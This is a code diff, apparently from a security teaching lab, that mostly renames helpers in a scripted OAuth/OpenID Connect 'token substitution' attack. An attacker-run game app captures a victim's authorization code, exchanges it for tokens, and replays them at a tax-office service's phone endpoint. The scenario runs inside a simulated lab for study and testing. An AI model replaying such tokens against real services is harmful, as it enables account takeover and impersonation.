@@ -1,14 +1,15 @@
 /** An access token for one application opens another. */
-import { type Attack, fails, type Tell, works } from '../attack.ts';
+
 import {
   ANGELA,
   ANGELAS_FILE,
+  abbreviate,
   claimFile,
   giveAngelaAFile,
-  glimpse,
   PROVIDER,
   SERVICE,
-} from '../cast.ts';
+} from '../actors.ts';
+import { type Attack, fails, type Narrate, works } from '../attack.ts';
 import type { Lab } from '../lab.ts';
 
 const GAME = {
@@ -55,13 +56,13 @@ export const tokenSubstitution: Attack = {
       },
     });
   },
-  async play(lab, tell) {
-    const tokens = await tokensOfTheGame(lab, tell);
+  async play(lab, narrate) {
+    const tokens = await tokensOfTheGame(lab, narrate);
     const page = await lab.attacker.send(`${lab.url(SERVICE)}/phone`, {
       access_token: tokens.access_token,
       id_token: tokens.id_token,
     });
-    tell(
+    narrate(
       'attacker',
       'Présente ces jetons aux Impôts, par l’entrée de l’application mobile.',
       'Shows these tokens to the tax office, at the door of its phone application.',
@@ -83,7 +84,7 @@ export const tokenSubstitution: Attack = {
 type Tokens = { access_token: string; id_token: string };
 
 /** Angela signs in to the game, and the game asks for its tokens: all in order so far. */
-async function tokensOfTheGame(lab: Lab, tell: Tell): Promise<Tokens> {
+async function tokensOfTheGame(lab: Lab, narrate: Narrate): Promise<Tokens> {
   const request = new URL(`${lab.issuer}/authorize`);
   const redirect = `${lab.url('attacker')}/callback`;
   request.search = new URLSearchParams({
@@ -96,20 +97,24 @@ async function tokensOfTheGame(lab: Lab, tell: Tell): Promise<Tokens> {
     acr_values: 'eidas1',
   }).toString();
   await lab.victim.signIn({ url: request.href, login: ANGELA.login, via: PROVIDER });
-  tell('victim', 'Se connecte au jeu, qui la remercie.', 'Signs in to the game, which thanks her.');
-  const caught = (await lab.notebook.caught()).find(({ kind }) => kind === 'code');
+  narrate(
+    'victim',
+    'Se connecte au jeu, qui la remercie.',
+    'Signs in to the game, which thanks her.',
+  );
+  const captured = (await lab.notebook.captures()).find(({ kind }) => kind === 'code');
   const answer = await lab.attacker.send(`${lab.issuer}/token`, {
     grant_type: 'authorization_code',
-    code: caught?.values.code ?? '',
+    code: captured?.values.code ?? '',
     redirect_uri: redirect,
     client_id: GAME.clientId,
     client_secret: GAME.clientSecret,
   });
   const tokens = JSON.parse(answer.text) as Tokens;
-  tell(
+  narrate(
     'attacker',
-    `Échange le code, comme tout service, et reçoit le jeton d’accès ${glimpse(tokens.access_token)}`,
-    `Exchanges the code, like any service, and receives the access token ${glimpse(tokens.access_token)}`,
+    `Échange le code, comme tout service, et reçoit le jeton d’accès ${abbreviate(tokens.access_token)}`,
+    `Exchanges the code, like any service, and receives the access token ${abbreviate(tokens.access_token)}`,
   );
   return tokens;
 }
